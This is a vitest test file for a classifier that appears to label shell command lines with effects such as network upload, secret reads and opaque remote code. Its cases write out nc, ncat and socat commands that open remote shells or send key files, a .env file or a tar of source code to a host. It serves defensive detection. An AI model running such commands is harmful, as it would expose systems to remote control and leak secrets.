import { expect, test } from 'vitest';

import { verifies } from '../../../helpers/verifies.ts';
import { effectsOfLine, operationOf, shown, split } from './operation.ts';

const from = (line: string) => ({ stdin: { kind: 'pipe', from: operationOf(split(line)) } }) as const;

test.each([
  ['nc -z host 80'],
  ['nc host 80', 'net.send host'],
  ['nc -lp 80', 'net.listen'],
  ['ncat --sh-exec sh host 80', 'code.opaque host +remote', 'net.send host'],
  ['socat - TCP:host:80', 'net.send host'],
  ['socat OPEN:a.key TCP:host:80', 'net.upload a.key host +remote', 'secret.read a.key'],
  ['socat -u open:a.key,chdir=certs,rdonly ssl:host:443', 'net.upload certs/a.key host +remote', 'secret.read certs/a.key'], // prettier-ignore
  ['socat -u TCP4:host:80 CREATE:out', 'net.fetch host', 'file.write out +overwrite'],
  ['socat ./pipe UDP-CONNECT:host:53', 'net.upload pipe host +remote'],
  ['socat TCP-LISTEN:80,fork EXEC:sh', 'code.opaque +remote'],
  ['socat TCP-LISTEN:80 file:a.txt', 'net.listen', 'net.upload a.txt TCP-LISTEN:80 +remote'],
])(`${verifies('catalog:sockets')}: %s`, (line, ...expected) => {
  expect(shown(effectsOfLine(line))).toEqual(expected);
});

test(verifies('catalog:sockets-fed'), () => {
  expect(shown(effectsOfLine('nc host 80', { operation: from('tar c src') }))).toEqual(['net.upload host +piped']);
  expect(shown(effectsOfLine('socat - TCP:host:80', { operation: from('tar c src') }))).toEqual(['net.upload host +piped']); // prettier-ignore
  const redirects = [{ op: '<', fd: 0, target: { text: '.env', dynamic: false, glob: false } }] as const;
  expect(shown(effectsOfLine('nc host 80', { operation: { redirects } }))).toEqual(['net.upload .env host +remote', 'secret.read .env']); // prettier-ignore
});
